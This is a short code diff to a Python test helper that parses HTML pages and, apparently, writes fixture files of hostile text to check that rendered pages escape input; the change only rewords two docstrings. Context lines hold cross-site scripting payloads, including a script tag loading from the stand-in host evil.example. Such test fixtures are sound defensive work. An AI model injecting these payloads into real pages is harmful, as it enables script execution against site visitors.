@@ -14,7 +14,7 @@ VOID = {"img", "link", "meta", "source"}
 
 
 class Page(HTMLParser):
-    """The elements and the text of a page; tags that don't close in order are an error."""
+    """The elements and the text of a page, whose tags must close in order."""
 
     def __init__(self, path: Path) -> None:
         super().__init__()
@@ -53,7 +53,7 @@ def picture(uri: str | None) -> Image.Image:
 
 
 def hostile(output: Path, name: str = "<script>alert(1)<b>$x_$") -> Path:
-    """Write a pretraining and a probe of it whose every text is an attack on a page."""
+    """Write a pretraining and its probe; every text in their files attacks a page."""
     attack = '"><img src=x onerror=alert(1)><script src="https://evil.example/x.js"></script>'
     run, probe = output / "p", output / name
     for each in (run, probe):
